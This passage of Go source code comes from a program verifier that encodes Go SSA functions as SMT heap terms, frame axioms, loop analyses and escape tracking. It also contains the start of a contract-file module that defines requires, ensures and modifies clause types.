	if strings.Contains(s, "byte") || strings.Contains(s, "rune") || strings.Contains(s, "any") {
		s = reByte.ReplaceAllString(s, "uint8")
		s = reRune.ReplaceAllString(s, "int32")
		s = reAny.ReplaceAllString(s, "interface{}")
	}
	return s
}

var reByte = regexp.MustCompile(`\bbyte\b`)
var reRune = regexp.MustCompile(`\brune\b`)
var reAny = regexp.MustCompile(`\bany\b`)

func zeroTerm(t types.Type) string {
	if isBoolType(t) {
		return "false"
	}
	return "0"
}

func (e *Engine) typeTag(t types.Type) int {
	k := typeKey(t)
	if n, ok := e.typeTags[k]; ok {
		return n
	}
	n := len(e.typeTags) + 1
	e.typeTags[k] = n
	e.tagTypes = append(e.tagTypes, t)
	return n
}

func (e *Engine) strLit(s string) string {
	if s == "" {
		return "0"
	}
	if n, ok := e.strLits[s]; ok {
		return fmt.Sprintf("%d", n)
	}
	n := 1000000 + len(e.strLits)
	e.strLits[s] = n
	return fmt.Sprintf("%d", n)
}

// machine integer info
func intInfo(t types.Type) (bits int, signed bool, ok bool) {
	b, isb := t.Underlying().(*types.Basic)
	if !isb {
		return 0, false, false
	}
	switch b.Kind() {
	case types.Int, types.Int64:
		return 64, true, true
	case types.Uint, types.Uint64, types.Uintptr:
		return 64, false, true
	case types.Int32:
		return 32, true, true
	case types.Uint32:
		return 32, false, true
	case types.Int16:
		return 16, true, true
	case types.Uint16:
		return 16, false, true
	case types.Int8:
		return 8, true, true
	case types.Uint8:
		return 8, false, true
	case types.UntypedInt, types.UntypedRune:
		return 64, true, true
	}
	return 0, false, false
}

func wrapTerm(t types.Type, x string) string {
	bits, signed, ok := intInfo(t)
	if !ok {
		return x
	}
	pre := "wrapU"
	if signed {
		pre = "wrapI"
	}
	return sApp(fmt.Sprintf("%s%d", pre, bits), x)
}

func rangeFact(t types.Type, x string) string {
	bits, signed, ok := intInfo(t)
	if !ok {
		return "true"
	}
	one := big.NewInt(1)
	if signed {
		hi := new(big.Int).Sub(new(big.Int).Lsh(one, uint(bits-1)), one)
		lo := new(big.Int).Neg(new(big.Int).Lsh(one, uint(bits-1)))
		return sAnd(sApp("<=", sBig(lo), x), sApp("<=", x, sBig(hi)))
	}
	hi := new(big.Int).Sub(new(big.Int).Lsh(one, uint(bits)), one)
	return sAnd(sApp("<=", "0", x), sApp("<=", x, sBig(hi)))
}

// ---------------------------------------------------------------------------
// Heap variable names

var structCanon = map[*types.Struct]string{}

// canonType: named struct types declared as `type proof Proof` share one underlying struct and therefore one
// set of field heaps (conversions between them are free in Go)
func canonType(root types.Type) string {
	if st, ok := root.Underlying().(*types.Struct); ok {
		if _, named := types.Unalias(root).(*types.Named); named {
			if c, ok := structCanon[st]; ok {
				return c
			}
			structCanon[st] = typeKey(root)
			return structCanon[st]
		}
	}
	return typeKey(root)
}

func heapField(root types.Type, path string) string {
	return "F:" + canonType(root) + path
}

var heapValType = map[string]types.Type{}

// globalValType: type of the value held by a package-level variable that is modelled as a scalar heap variable
var globalValType = map[string]types.Type{}

func heapElem(elem types.Type) string {
	n := "E:" + elemKey(elem)
	heapValType[n] = elem
	return n
}
func heapBox(t types.Type) string {
	n := "B:" + elemKey(t)
	heapValType[n] = t
	return n
}
func heapMapP(t types.Type) string { return "MP:" + typeKey(t.Underlying()) }
func heapMapV(t types.Type) string {
	n := "MV:" + typeKey(t.Underlying())
	heapValType[n] = t.Underlying().(*types.Map).Elem()
	return n
}

func (fc *FnCtx) closedRowFact(row, name, alloc string) string {
	t := heapValType[name]
	if t == nil {
		return "true"
	}
	sel := fmt.Sprintf("(select %s ci)", row)
	var body string
	switch t.Underlying().(type) {
	case *types.Pointer, *types.Map, *types.Chan:
		body = sApp("<=", sel, alloc)
	case *types.Slice:
		body = sApp("<=", sApp("sl_arr", sel), alloc)
	case *types.Interface:
		body = sApp("<=", sApp("ipay", sel), alloc)
	default:
		return "true"
	}
	return fmt.Sprintf("(forall ((ci Int)) (! %s :pattern (%s)))", body, sel)
}

// closedFact: every reference stored in heap version 'term' of variable 'name' is allocated (<= alloc)
func (fc *FnCtx) closedFact(term, name, alloc string) string {
	t := heapValType[name]
	if t == nil {
		return "true"
	}
	sort := fc.varSort[name]
	two := strings.HasPrefix(sort, "(Array Int (Array")
	var sel, binders, pat string
	if two {
		sel = fmt.Sprintf("(select (select %s cr) ci)", term)
		binders = "((cr Int) (ci Int))"
	} else {
		sel = fmt.Sprintf("(select %s cr)", term)
		binders = "((cr Int))"
	}
	pat = sel
	var body string
	switch t.Underlying().(type) {
	case *types.Pointer, *types.Map, *types.Chan:
		body = sApp("<=", sel, alloc)
	case *types.Slice:
		body = sApp("<=", sApp("sl_arr", sel), alloc)
	case *types.Interface:
		body = sApp("<=", sApp("ipay", sel), alloc)
	default:
		return "true"
	}
	return fmt.Sprintf("(forall %s (! (=> (isold cr %s) %s) :pattern (%s)))", binders, alloc, body, pat)
}
func heapGlobal(g *ssa.Global) string { return "G:" + g.Pkg.Pkg.Path() + "." + g.Name() }

func elemKey(t types.Type) string {
	// group by representation so that e.g. []*A and []*B do not alias anyway
	return typeKey(t)
}

const hBV = "BV"
const hAlloc = "$alloc"
const hIter = "ITS"
const hIterN = "ITN" // ghost: number of keys a map iterator has handed out
const hChan = "CH"   // channel contents abstraction (unused detail)

func (fc *FnCtx) sortOfVar(name string) string {
	if s, ok := fc.varSort[name]; ok {
		return s
	}
	panic("unknown heap var " + name)
}

func (fc *FnCtx) regVar(name, sort string) {
	if old, ok := fc.varSort[name]; ok && old != sort {
		panic(fmt.Sprintf("heap var %s sort mismatch %s vs %s", name, old, sort))
	}
	fc.varSort[name] = sort
}

type mapIterInfo struct {
	m     string
	mt    types.Type
	mpRow string
}

type frameInfo struct {
	pre     string
	alloc   string
	exc     []string
	partial map[string][]string // rows of which only some elements are written in the loop
}

var reBoundVar = regexp.MustCompile(`qv\d+x_`)

// noteRead emits, for a read of heap version 'term' at 'row', the ground instances of the frame axioms of every
// havocked version this one was derived from.
func (fc *FnCtx) noteRead(term, row string) {
	if fc.noted == nil {
		fc.noted = map[string]bool{}
	}
	if reBoundVar.MatchString(row) {
		return
	}
	key := term + "@" + row
	if fc.noted[key] {
		return
	}
	fc.noted[key] = true
	if name := fc.heapNameOf(term); name != "" && !strings.HasPrefix(fc.varSort[name], "(Array Int (Array") {
		fc.closedGround(term, name, sSel(term, row), row)
	}
	if info, ok := fc.frames[term]; ok {
		conds := []string{sApp("isold", row, info.alloc)}
		for _, e := range info.exc {
			conds = append(conds, sNot(sEq(row, e)))
		}
		fc.permFact(sImp(sAnd(conds...), sEq(sSel(term, row), sSel(info.pre, row))))
		fc.noteRead(info.pre, row)
	}
	for _, p := range fc.parents[term] {
		fc.noteRead(p, row)
	}
}

// heapNameOf recovers the heap variable name from a version term like |F:pkg.T.f!12|
func (fc *FnCtx) heapNameOf(term string) string {
	t := strings.Trim(term, "|")
	i := strings.LastIndex(t, "!")
	if i < 0 {
		return ""
	}
	name := t[:i]
	if _, ok := fc.varSort[name]; ok {
		return name
	}
	return ""
}

// rd reads row 'row' of heap variable 'name' in state st
func (fc *FnCtx) rd(st *State, name, row string) string {
	t := fc.get(st, name)
	fc.noteRead(t, row)
	v := sSel(t, row)
	if !strings.HasPrefix(fc.varSort[name], "(Array Int (Array") {
		fc.closedGround(t, name, v, row)
	}
	return v
}

// noteRead2: element-level frame instances for rows that a loop writes only at loop-invariant indices
func (fc *FnCtx) noteRead2(term, row, idx string) {
	if reBoundVar.MatchString(row) || reBoundVar.MatchString(idx) {
		return
	}
	key := term + "@" + row + "@" + idx
	if fc.noted[key] {
		return
	}
	if fc.noted == nil {
		fc.noted = map[string]bool{}
	}
	fc.noted[key] = true
	if name := fc.heapNameOf(term); name != "" {
		fc.closedGround(term, name, sSel(sSel(term, row), idx), row+"@"+idx)
	}
	if info, ok := fc.frames[term]; ok {
		for _, prow := range sortedKeys(info.partial) {
			idxs := info.partial[prow]
			var cs []string
			cs = append(cs, sEq(row, prow))
			for _, ix := range idxs {
				cs = append(cs, sNot(sEq(idx, ix)))
			}
			fc.permFact(sImp(sAnd(cs...), sEq(sSel(sSel(term, row), idx), sSel(sSel(info.pre, row), idx))))
		}
		fc.noteRead2(info.pre, row, idx)
	}
	for _, p := range fc.parents[term] {
		fc.noteRead2(p, row, idx)
	}
}

// rd2 reads element idx of row 'row' of a two-level heap
func (fc *FnCtx) rd2(st *State, name, row, idx string) string {
	t := fc.get(st, name)
	fc.noteRead(t, row)
	fc.noteRead2(t, row, idx)
	v := sSel(sSel(t, row), idx)
	fc.closedGround(t, name, v, row+"@"+idx)
	return v
}

// closedGround: ground instance of heap closedness for one read: a reference read from heap version t was
// allocated no later than the moment t was created
func (fc *FnCtx) closedGround(t, name, v, key string) {
	row := key
	if i := strings.Index(key, "@"); i >= 0 {
		row = key[:i]
	}
	vt := heapValType[name]
	if vt == nil || reBoundVar.MatchString(key) {
		return
	}
	a, ok := fc.heapAlloc[t]
	if !ok {
		if strings.HasSuffix(t, "!0") || strings.HasSuffix(t, "!0|") {
			a = fc.declare(hAlloc+"!0", "Int")
		} else {
			return
		}
	}
	if fc.closedNoted == nil {
		fc.closedNoted = map[string]bool{}
	}
	k := t + "#" + key
	if fc.closedNoted[k] {
		return
	}
	fc.closedNoted[k] = true
	fc.permFact(closedText(vt, row, v, a))
}

// closedText: only objects that existed when this heap version was created are covered: a later-allocated row
// read from an unchanged heap version holds whatever a callee's post-condition says
func closedText(vt types.Type, row, v, a string) string {
	rowOld := sApp("isold", row, a)
	switch vt.Underlying().(type) {
	case *types.Pointer, *types.Map, *types.Chan:
		return sImp(rowOld, sOr(sEq(v, "0"), sApp("isold", v, a)))
	case *types.Slice:
		return sAnd(sImp(rowOld, sApp("<=", sApp("sl_arr", v), a)), sApp("slwf", v))
	case *types.Interface:
		return sImp(rowOld, sApp("<=", sApp("ipay", v), a))
	}
	return "true"
}

// frameForReads: ground frame instances (the read of a havocked heap version equals the read of the version
// before the havoc unless the row is fresh or excepted) for one-level heap reads that occur in a hypothesis
// instance created while a query is built. Read-only on fc (queries are built concurrently).
func (fc *FnCtx) frameForReads(text string, seen map[string]bool, out *[]string) {
	for _, pat := range []string{"(select BV!", "(select |F:", "(select |B:"} {
		from := 0
		for len(*out) < 3000 {
			k := strings.Index(text[from:], pat)
			if k < 0 {
				break
			}
			k += from
			from = k + 1
			d, j := 0, k
			for ; j < len(text); j++ {
				if text[j] == '(' {
					d++
				} else if text[j] == ')' {
					d--
					if d == 0 {
						break
					}
				}
			}
			if j >= len(text) {
				break
			}
			sub := text[k : j+1]
			if len(sub) > 1500 || reBoundVar.MatchString(sub) {
				continue
			}
			a := splitSexpr(sub)
			if len(a) != 3 {
				continue
			}
			fc.frameChain(a[1], a[2], seen, out, 0)
		}
	}
}

func (fc *FnCtx) frameChain(term, row string, seen map[string]bool, out *[]string, depth int) {
	key := "fr:" + term + "@" + row
	if seen[key] || depth > 60 {
		return
	}
	seen[key] = true
	if info, ok := fc.frames[term]; ok {
		conds := []string{sApp("isold", row, info.alloc)}
		for _, e := range info.exc {
			conds = append(conds, sNot(sEq(row, e)))
		}
		*out = append(*out, "(assert "+sImp(sAnd(conds...), sEq(sSel(term, row), sSel(info.pre, row)))+")")
		fc.frameChain(info.pre, row, seen, out, depth+1)
	}
	for _, p := range fc.parents[term] {
		fc.frameChain(p, row, seen, out, depth+1)
	}
}

// closedForReads: ground closedness instances for the heap reads that occur in a hypothesis instance created
// while a query is built (those terms never went through rd/rd2)
func (fc *FnCtx) closedForReads(text string, seen map[string]bool, out *[]string) {
	for _, pat := range []string{"(select (select |E:", "(select (select |MV:", "(select |F:", "(select |B:"} {
		from := 0
		for len(*out) < 1500 {
			k := strings.Index(text[from:], pat)
			if k < 0 {
				break
			}
			k += from
			from = k + 1
			d, j := 0, k
			for ; j < len(text); j++ {
				if text[j] == '(' {
					d++
				} else if text[j] == ')' {
					d--
					if d == 0 {
						break
					}
				}
			}
			if j >= len(text) {
				break
			}
			sub := text[k : j+1]
			if seen[sub] || len(sub) > 1500 || reBoundVar.MatchString(sub) {
				continue
			}
			seen[sub] = true
			a := splitSexpr(sub)
			if len(a) != 3 {
				continue
			}
			heapTerm, row := a[1], a[2]
			if strings.HasPrefix(heapTerm, "(select ") {
				in := splitSexpr(heapTerm)
				if len(in) != 3 {
					continue
				}
				heapTerm, row = in[1], in[2]
			}
			name := fc.heapNameOf(heapTerm)
			vt := heapValType[name]
			if name == "" || vt == nil {
				continue
			}
			al, ok := fc.heapAlloc[heapTerm]
			if !ok {
				if strings.HasSuffix(heapTerm, "!0") || strings.HasSuffix(heapTerm, "!0|") {
					al = sym(hAlloc + "!0")
				} else {
					continue
				}
			}
			if t := closedText(vt, row, sub, al); t != "true" {
				*out = append(*out, "(assert "+t+")")
			}
		}
	}
}

// get current term of heap var
func (fc *FnCtx) get(st *State, name string) string {
	if fc.recording != nil {
		*fc.recording = append(*fc.recording, name)
	}
	if t, ok := st.vars[name]; ok {
		return t
	}
	n0 := fc.declare(name+"!0", fc.sortOfVar(name))
	if !fc.declSet["closed:"+name] && name != hAlloc {
		fc.declSet["closed:"+name] = true
		if cf := fc.closedFact(n0, name, fc.declare(hAlloc+"!0", "Int")); cf != "true" {
			fc.closedDecls = append(fc.closedDecls, "(assert "+cf+")")
		}
		// a package-level variable holds, at entry, a reference to an object that already exists
		if gt := globalValType[name]; gt != nil {
			a0 := fc.declare(hAlloc+"!0", "Int")
			switch gt.Underlying().(type) {
			case *types.Pointer, *types.Map, *types.Chan:
				fc.permFact(sOr(sEq(n0, "0"), sApp("isold", n0, a0)))
			case *types.Slice:
				fc.permFact(sAnd(sApp("slwf", n0), sApp("<=", sApp("sl_arr", n0), a0)))
			case *types.Interface:
				fc.permFact(sApp("<=", sApp("ipay", n0), a0))
			}
		}
		// convention: row 0 (nil) of an entry-state reference heap reads nil. Go code never reads that row (a nil
		// dereference panics and is an obligation of its own); spec expressions are total, and without the
		// convention p.f for a nil p would be an arbitrary reference that may alias freshly allocated objects.
		if vt := heapValType[name]; vt != nil && !strings.HasPrefix(fc.varSort[name], "(Array Int (Array") {
			switch vt.Underlying().(type) {
			case *types.Pointer, *types.Map, *types.Chan:
				fc.permFact(sEq(sSel(n0, "0"), "0"))
			}
		}
	}
	return n0
}

func (fc *FnCtx) set(st *State, name, term string) {
	st.vars[name] = term
}

// define a new version equal to term (keeps terms small)
func (fc *FnCtx) setDef(st *State, guard, name, term string) {
	c := fc.freshConst(name, fc.sortOfVar(name))
	if cur, ok := st.vars[name]; ok {
		if fc.parents == nil {
			fc.parents = map[string][]string{}
		}
		fc.parents[c] = append(fc.parents[c], cur)
	}
	if name != hAlloc {
		if fc.heapAlloc == nil {
			fc.heapAlloc = map[string]string{}
		}
		fc.heapAlloc[c] = fc.get(st, hAlloc)
	}
	fc.addFact("true", sEq(c, term))
	// a plain store to the previous version: remember the row (used to relate spec folds across heap versions)
	if cur, ok := st.vars[name]; ok && strings.HasPrefix(term, "(store "+cur+" ") {
		if a := splitSexpr(term); len(a) == 4 {
			if fc.storeRef == nil {
				fc.storeRef = map[string]string{}
			}
			fc.storeRef[c] = a[2]
		}
	}
	st.vars[name] = c
}

// foldBase walks a heap version back through plain stores to rows of objects that this function allocated and
// that have not escaped (no heap location, parameter or result holds a reference to them), and through merges
// whose branches all lead back to the same version. A spec fold whose arguments do not mention such an object
// cannot read its row - the fold reaches rows only through its arguments and through references loaded from
// the heap - so it has the same value in the version returned.
func (fc *FnCtx) foldBase(h string, args string) string {
	for depth := 0; depth < 200; depth++ {
		var ps []string
		seen := map[string]bool{}
		for _, p := range fc.parents[h] {
			if !seen[p] {
				seen[p] = true
				ps = append(ps, p)
			}
		}
		if r, ok := fc.storeRef[h]; ok && len(ps) == 1 && fc.localRefs[r] && !strings.Contains(args, r) {
			h = ps[0]
			continue
		}
		if _, isStore := fc.storeRef[h]; !isStore && len(ps) > 1 {
			b0 := fc.foldBase(ps[0], args)
			same := true
			for _, p := range ps[1:] {
				if fc.foldBase(p, args) != b0 {
					same = false
				}
			}
			if same && fc.mergeConst[h] {
				h = b0
				continue
			}
		}
		return h
	}
	return h
}

func arrSort(v string) string  { return "(Array Int " + v + ")" }
func arr2Sort(v string) string { return "(Array Int (Array Int " + v + "))" }

// ---------------------------------------------------------------------------
// Source snippets for obligation names

func (e *Engine) srcExpr(fn *ssa.Function, pos token.Pos) string {
	if !pos.IsValid() {
		return ""
	}
	var syn ast.Node
	for f := fn; f != nil; f = f.Parent() {
		if f.Syntax() != nil {
			syn = f.Syntax()
			break
		}
	}
	if syn == nil {
		return ""
	}
	var best ast.Node
	ast.Inspect(syn, func(n ast.Node) bool {
		if n == nil {
			return false
		}
		if n.Pos() > pos || n.End() < pos {
			return n.Pos() <= pos
		}
		switch x := n.(type) {
		case *ast.CallExpr:
			if x.Lparen == pos {
				best = x.Fun
			}
		case *ast.SelectorExpr:
			if x.Sel.Pos() == pos {
				best = x
			}
		case *ast.IndexExpr:
			if x.Lbrack == pos {
				best = x
			}
		case *ast.StarExpr:
			if x.Star == pos {
				best = x
			}
		case *ast.SliceExpr:
			if x.Lbrack == pos {
				best = x
			}
		case *ast.Ident:
			if x.Pos() == pos && best == nil {
				best = x
			}
		case *ast.UnaryExpr:
			if x.OpPos == pos {
				best = x
			}
		case *ast.RangeStmt:
			if x.For == pos || x.TokPos == pos {
				best = x.X
			}
		case *ast.TypeAssertExpr:
			if x.Lparen == pos {
				best = x
			}
		}
		return true
	})
	if best == nil {
		return ""
	}
	var sb strings.Builder
	_ = printer.Fprint(&sb, e.fset, best)
	s := sb.String()
	s = strings.Join(strings.Fields(s), "")
	if len(s) > 60 {
		s = s[:60]
	}
	return s
}

// ---------------------------------------------------------------------------
// Frames: activation of a function body (top level or inlined)

type edgeKey struct{ from, to int }

type Frame struct {
	fc          *FnCtx
	fn          *ssa.Function
	env         map[ssa.Value]Val
	reach       map[int]string // block index -> reach term
	exit        map[int]*State // block exit states
	edgeCnd     map[edgeKey]string
	entryG      string
	inlined     bool
	prefix      string            // obligation name prefix for inlined frames
	loops       map[int]*loopInfo // header block index -> info
	loopOrd     map[int]int
	rets        []retSite
	pre         *State // state at entry (for old())
	params      map[string]Val
	depth       int
	contract    *Contract
	callCount   map[string]int
	deferred    []*ssa.Defer
	propsList   []string
	curBlock    *ssa.BasicBlock
	parent      *Frame
	parentBlock *ssa.BasicBlock
	loopCtxs    map[int]*loopCtx
}

type retSite struct {
	blk    *ssa.BasicBlock
	guard  string
	st     *State
	vals   []Val
	pos    token.Pos
	panics bool
}

type loopInfo struct {
	header  *ssa.BasicBlock
	blocks  map[int]bool
	backs   []*ssa.BasicBlock
	entries []*ssa.BasicBlock
	ord     int
}

func (fr *Frame) val(v ssa.Value) Val {
	switch c := v.(type) {
	case *ssa.Const:
		return fr.constVal(c)
	case *ssa.Global:
		return fr.globalPtr(c)
	case *ssa.Function:
		return Val{S: fr.fc.eng.funcRef(c), Typ: c.Type()}
	case *ssa.Builtin:
		return Val{S: "0", Typ: c.Type()}
	}
	if x, ok := fr.env[v]; ok {
		return x
	}
	fr.fc.unsupported("value %s (%T) used before definition in %s", v.Name(), v, fr.fn.Name())
	return fr.havocVal(v.Type(), "undef")
}

func (e *Engine) funcRef(f *ssa.Function) string {
	return e.strLit("func:" + f.String())
}

func (fr *Frame) constVal(c *ssa.Const) Val {
	t := c.Type()
	if c.Value == nil {
		// zero value
		return fr.zeroVal(t)
	}
	switch c.Value.Kind() {
	case constant.Bool:
		if constant.BoolVal(c.Value) {
			return Val{S: "true", Typ: t}
		}
		return Val{S: "false", Typ: t}
	case constant.Int:
		bi, _ := new(big.Int).SetString(c.Value.ExactString(), 10)
		return Val{S: sBig(bi), Typ: t}
	case constant.String:
		s := constant.StringVal(c.Value)
		id := fr.fc.eng.strLit(s)
		fr.fc.noteStr(id, s)
		return Val{S: id, Typ: t}
	case constant.Float:
		return Val{S: fr.fc.freshConst("float", "Int"), Typ: t}
	}
	fr.fc.unsupported("constant kind %v", c.Value.Kind())
	return Val{S: "0", Typ: t}
}

func (fc *FnCtx) noteStr(id, s string) {
	if id == "0" {
		return
	}
	key := "strlit:" + id
	if fc.declSet[key] {
		return
	}
	fc.declSet[key] = true
	fc.decls = append(fc.decls, fmt.Sprintf("(assert (= (strlen %s) %d))", id, len(s)))
}

func (fr *Frame) zeroVal(t types.Type) Val {
	if isAggType(t) {
		switch u := t.Underlying().(type) {
		case *types.Struct:
			v := Val{Typ: t, IsAg: true}
			for i := 0; i < u.NumFields(); i++ {
				v.Agg = append(v.Agg, fr.zeroVal(u.Field(i).Type()))
			}
			return v
		case *types.Tuple:
			v := Val{Typ: t, IsAg: true}
			for i := 0; i < u.Len(); i++ {
				v.Agg = append(v.Agg, fr.zeroVal(u.At(i).Type()))
			}
			return v
		}
	}
	if isBigInt(t) {
		fr.fc.unsupported("big.Int by value")
	}
	return Val{S: zeroTerm(t), Typ: t}
}

// havocVal returns an unconstrained value of type t (with typing facts added under guard "true")
func (fr *Frame) havocVal(t types.Type, hint string) Val {
	if isAggType(t) {
		v := Val{Typ: t, IsAg: true}
		switch u := t.Underlying().(type) {
		case *types.Struct:
			for i := 0; i < u.NumFields(); i++ {
				v.Agg = append(v.Agg, fr.havocVal(u.Field(i).Type(), hint+"."+u.Field(i).Name()))
			}
		case *types.Tuple:
			for i := 0; i < u.Len(); i++ {
				v.Agg = append(v.Agg, fr.havocVal(u.At(i).Type(), fmt.Sprintf("%s.%d", hint, i)))
			}
		}
		return v
	}
	c := fr.fc.freshConst(hint, sortOf(t))
	return Val{S: c, Typ: t}
}

// typing facts for a scalar value of Go type t in state st (refs are allocated, ints in range, slices well-formed)
func (fr *Frame) typeFacts(v Val, st *State) string {
	if v.IsAg {
		var fs []string
		for _, a := range v.Agg {
			fs = append(fs, fr.typeFacts(a, st))
		}
		return sAnd(fs...)
	}
	t := v.Typ
	if t == nil {
		return "true"
	}
	if _, _, ok := intInfo(t); ok {
		return rangeFact(t, v.S)
	}
	switch u := t.Underlying().(type) {
	case *types.Pointer, *types.Map, *types.Chan:
		_ = u
		return sOr(sEq(v.S, "0"), sApp("isold", v.S, fr.fc.get(st, hAlloc)))
	case *types.Slice:
		return sAnd(sApp("slwf", v.S), sApp("<=", sApp("sl_arr", v.S), fr.fc.get(st, hAlloc)))
	case *types.Interface:
		return sAnd(sApp("<=", sApp("ipay", v.S), fr.fc.get(st, hAlloc)), sApp(">=", sApp("itype", v.S), "0"), sEq(sEq(v.S, "0"), sEq(sApp("itype", v.S), "0")))
	case *types.Basic:
		if u.Info()&types.IsString != 0 {
			return sApp(">=", sApp("strlen", v.S), "0")
		}
	}
	return "true"
}

func (fr *Frame) globalPtr(g *ssa.Global) Val {
	pt := g.Type().(*types.Pointer).Elem()
	name := heapGlobal(g)
	if isBigInt(pt) {
		ref := fr.fc.declare("gref:"+name, "Int")
		return Val{S: ref, Typ: g.Type(), Loc: &Loc{Kind: LObj, Base: ref, Elem: pt}}
	}
	if _, ok := pt.Underlying().(*types.Struct); ok {
		ref := fr.fc.declare("gref:"+name, "Int")
		fr.fc.addGlobalRefFact(ref)
		return Val{S: ref, Typ: g.Type(), Loc: &Loc{Kind: LObj, Base: ref, Root: pt, Elem: pt}}
	}
	if _, ok := pt.Underlying().(*types.Array); ok {
		ref := fr.fc.declare("gref:"+name, "Int")
		fr.fc.addGlobalRefFact(ref)
		return Val{S: ref, Typ: g.Type(), Loc: &Loc{Kind: LObj, Base: ref, Elem: pt}}
	}
	fr.fc.regVar(name, sortOf(pt))
	globalValType[name] = pt
	return Val{Typ: g.Type(), Loc: &Loc{Kind: LGlobal, Heap: name, Elem: pt}}
}

func (fc *FnCtx) addGlobalRefFact(ref string) {
	k := "gfact:" + ref
	if fc.declSet[k] {
		return
	}
	fc.declSet[k] = true
	fc.regVar(hAlloc, "Int")
	fc.decls = append(fc.decls, fmt.Sprintf("(assert (and (< 0 %s) (<= %s %s)))", ref, ref, fc.declare(hAlloc+"!0", "Int")))
}

// ---------------------------------------------------------------------------
// CFG analysis

func (fr *Frame) analyzeLoops() {
	fn := fr.fn
	fr.loops = map[int]*loopInfo{}
	for _, b := range fn.Blocks {
		for _, s := range b.Succs {
			if s.Dominates(b) {
				li := fr.loops[s.Index]
				if li == nil {
					li = &loopInfo{header: s, blocks: map[int]bool{s.Index: true}}
					fr.loops[s.Index] = li
				}
				li.backs = append(li.backs, b)
				// collect body
				var stack []*ssa.BasicBlock
				if !li.blocks[b.Index] {
					li.blocks[b.Index] = true
					stack = append(stack, b)
				}
				for len(stack) > 0 {
					x := stack[len(stack)-1]
					stack = stack[:len(stack)-1]
					for _, p := range x.Preds {
						if !li.blocks[p.Index] {
							li.blocks[p.Index] = true
							stack = append(stack, p)
						}
					}
				}
			}
		}
	}
	var hs []int
	for h := range fr.loops {
		hs = append(hs, h)
	}
	sort.Ints(hs)
	for i, h := range hs {
		fr.loops[h].ord = i
		li := fr.loops[h]
		for _, p := range li.header.Preds {
			if !li.blocks[p.Index] {
				li.entries = append(li.entries, p)
			}
		}
	}
}

func (fr *Frame) isBackEdge(from, to *ssa.BasicBlock) bool {
	return to.Dominates(from)
}

func (fr *Frame) rpo() []*ssa.BasicBlock {
	fn := fr.fn
	seen := map[int]bool{}
	var post []*ssa.BasicBlock
	var dfs func(b *ssa.BasicBlock)
	dfs = func(b *ssa.BasicBlock) {
		seen[b.Index] = true
		for _, s := range b.Succs {
			if fr.isBackEdge(b, s) {
				continue
			}
			if !seen[s.Index] {
				dfs(s)
			}
		}
		post = append(post, b)
	}
	dfs(fn.Blocks[0])
	if fn.Recover != nil && !seen[fn.Recover.Index] {
		// recover block not modelled
	}
	for i, j := 0, len(post)-1; i < j; i, j = i+1, j-1 {
		post[i], post[j] = post[j], post[i]
	}
	return post
}

func typesNewPointer(t types.Type) types.Type { return types.NewPointer(t) }

// ancestors of b in the loop-cut control-flow DAG (including b)
var ancMu sync.Mutex

func (fc *FnCtx) ancestors(b *ssa.BasicBlock) map[*ssa.BasicBlock]bool {
	ancMu.Lock()
	defer ancMu.Unlock()
	if fc.ancCache == nil {
		fc.ancCache = map[*ssa.BasicBlock]map[*ssa.BasicBlock]bool{}
	}
	if a, ok := fc.ancCache[b]; ok {
		return a
	}
	a := map[*ssa.BasicBlock]bool{b: true}
	stack := []*ssa.BasicBlock{b}
	for len(stack) > 0 {
		x := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		for _, p := range x.Preds {
			if x.Dominates(p) {
				continue // back edge
			}
			if !a[p] {
				a[p] = true
				stack = append(stack, p)
			}
		}
	}
	fc.ancCache[b] = a
	return a
}

// escape marks every still-local object whose reference occurs in term as escaped
func (fc *FnCtx) escape(term string) {
	if len(fc.localRefs) == 0 || term == "" {
		return
	}
	// constants that name "the receiver or nil" results of native calls stand for the receiver
	for round := 0; round < 2 && len(fc.refAlias) > 0; round++ {
		for a, r := range fc.refAlias {
			if strings.Contains(term, a) && !strings.Contains(term, r) {
				term += " " + r
			}
		}
	}
	for r := range fc.localRefs {
		if strings.Contains(term, r) {
			if os.Getenv("GVC_DEBUG_ESCAPE") != "" {
				st := debug.Stack()
				if len(st) > 1800 {
					st = st[:1800]
				}
				fmt.Fprintf(os.Stderr, "escape %s via %.80s\n%s\n", r, term, st)
			}
			delete(fc.localRefs, r)
		}
	}
}

// aliasRef records that the constant c may denote the same object as the reference term r
func (fc *FnCtx) aliasRef(c, r string) {
	if fc.refAlias == nil {
		fc.refAlias = map[string]string{}
	}
	fc.refAlias[c] = r
}

func (fc *FnCtx) escapeVal(v Val) {
	if v.IsAg {
		for _, a := range v.Agg {
			fc.escapeVal(a)
		}
		return
	}
	if v.Typ != nil {
		if _, basic := v.Typ.Underlying().(*types.Basic); basic {
			// numbers, booleans and strings carry no reference, whatever terms their value was computed from
			return
		}
	}
	fc.escape(v.S)
	if v.Loc != nil {
		fc.escape(v.Loc.Base)
	}
}

func sortedKeys[V any](m map[string]V) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

// lemmaByName: a `lemma` declaration of any loaded contract file
func (e *Engine) lemmaByName(name string) *Axiom {
	for _, ax := range e.cs.Axioms {
		if ax.Lemma && ax.Name == name {
			return ax
		}
	}
	return nil
}

func (e *Engine) axiomByName(name string) *Axiom {
	for _, ax := range e.cs.Axioms {
		if !ax.Lemma && ax.Name == name {
			return ax
		}
	}
	return nil
}
