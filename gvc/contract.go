package main

// Contract files: //@ lines in /repo/<pkg>/zz_contracts_verif.go (build tag verif).

import (
	"fmt"
	"golang.org/x/tools/go/ssa"
	"os"
	"regexp"
	"strconv"
	"strings"
)

type Clause struct {
	Label string
	Props []string // property tags; empty = function default
	Src   string
	E     Expr
	Line  int
}

type ModLoc struct {
	Src string
	E   Expr // location expression: x.f, val(x), elems(s), mapof(m), all(T.f)
}

type CallAssert struct {
	Callee string // substring of callee name
	Nth    int    // -1 = every
	Cl     Clause
}

type Contract struct {
	Pkg             string // package path
	Key             string // e.g. "(*ProofD).correctResponseSizes" or "HashCommit"
	File            string
	Line            int
	Props           []string
	Safety          []string // properties the safety obligations are charged to (default Props)
	Requires        []Clause
	Ensures         []Clause
	MustFail        []Clause
	Modifies        []ModLoc
	ModAny          bool // no modifies clause given: treated as "modifies everything reachable" for callers (havoc all)
	ModGiven        bool
	LoopInv         map[int][]Clause
	LoopMod         map[int][]ModLoc
	LoopAssumeFrame map[int]string // loop N assumeframe <reason>
	Asserts         []CallAssert
	Applies         []Apply
	Ghosts          []CallAssert // ghost at <callee> name: expr  (value recorded after every matching call)
	Trusted         string
	NoPanic         bool // default true: safety obligations generated
